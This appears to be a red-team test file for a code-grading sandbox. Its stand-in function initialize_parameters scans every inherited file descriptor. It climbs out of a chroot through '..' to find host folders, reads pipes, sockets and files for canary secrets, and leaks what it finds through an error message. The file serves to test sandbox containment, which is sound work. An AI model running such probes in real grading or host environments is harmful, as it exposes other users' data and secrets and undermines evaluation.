# RED-TEAM ATTACK (issue 9): look through every file descriptor the sandbox inherited.
# Route: posix.fstat over 0..1023; a directory descriptor is listed, and so is its "..", which leaves
#   any chroot; a regular file, pipe or socket is read without blocking, in case it carries someone
#   else's data: another submission's code, the grading machine's secrets.
# Contained when: no descriptor leads to a host folder or to others' data, and initialize_parameters
#   scores 0.
# attacked: initialize_parameters
# run: batch
import os
import stat
import sys

LEAK = "REDTEAM" + "-LEAK: "
NEEDLES = (b"honest" + b"-canary-", b"REDTEAM_" + b"SECRET", b"REDTEAM-" + b"SECRET")
HOST = {"etc", "usr", os.path.basename(os.path.dirname("__SECRET_FILE__"))}


def _folder(posix, fd):
    names = set(posix.listdir(fd))
    try:
        up = posix.open("..", posix.O_RDONLY | posix.O_DIRECTORY, dir_fd=fd)
        names |= set(posix.listdir(up))
        posix.close(up)
    except OSError:
        pass
    return sorted(names & HOST)


def _read(posix, fd, mode):
    if stat.S_ISREG(mode):
        return posix.pread(fd, 1 << 20, 0)
    blocking = posix.get_blocking(fd)
    posix.set_blocking(fd, False)
    try:
        return posix.read(fd, 1 << 16)
    except OSError:
        return b""
    finally:
        posix.set_blocking(fd, blocking)


def initialize_parameters(n_x, n_h, n_y):
    posix = sys.modules.get("posix") or __import__("posix")
    gained, seen = [], []
    for fd in range(1024):
        try:
            mode = posix.fstat(fd).st_mode
        except OSError:
            continue
        seen.append(fd)
        try:
            if stat.S_ISDIR(mode):
                host = _folder(posix, fd)
                if host:
                    gained.append("fd %d reaches host folders %s" % (fd, host))
            elif stat.S_ISREG(mode) or stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
                data = _read(posix, fd, mode)
                for needle in NEEDLES:
                    at = data.find(needle)
                    if at >= 0:
                        gained.append("fd %d carries %r" % (fd, data[at:at + 60]))
        except Exception:
            pass
    if gained:
        raise RuntimeError(LEAK + "; ".join(gained))
    raise RuntimeError("fds %s give nothing" % seen)
